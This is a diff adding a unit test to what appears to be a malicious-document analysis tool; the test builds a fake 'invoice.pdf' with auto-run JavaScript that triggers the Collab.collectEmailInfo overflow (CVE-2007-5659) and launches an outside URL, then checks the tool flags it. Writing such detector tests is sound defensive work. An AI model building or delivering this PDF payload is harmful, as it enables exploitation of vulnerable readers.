@@ -100,6 +100,18 @@ class Lists(harness.ProgramTest):
         self.assertIn("failed\t", noted)
         self.assertEqual(json.loads(self.run_program(*arguments, status=0).stdout)["visits"], [])
 
+    def test_a_document_that_is_named_is_opened_and_its_scripts_run(self):
+        script = "Collab['collectEmail' + 'Info']({msg: Array(5000).join('A')}); app.launchURL('http://files.example/x');"
+        document = self.write("invoice.pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS <" +
+                              script.encode().hex() + "> >> >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 2 >>\n%%EOF\n")
+        [visit] = self.run_json("inspect", "--offline", "--no-store", document)["visits"]
+        self.assertEqual(visit["verdict"], "malicious")
+        self.assertEqual(visit["nodes"][0]["cves"], ["CVE-2007-5659"])
+        self.assertEqual(visit["files"][0]["facts"]["document"]["format"], "PDF 1.7")
+        [edge] = visit["edges"]
+        self.assertEqual((edge["mechanism"], visit["nodes"][edge["to"]]["url"]), ("component", "http://files.example/x"))
+        self.assertEqual(edge["script"]["line"], 1)
+
     def test_every_visit_of_a_list_can_be_written_down_and_replayed(self):
         # The page asks for something else each time, and says who came.
         site = self.site("127.0.0.2", lambda handler: "<script>new Image().src = '/i?' + new Date().getTime() + "
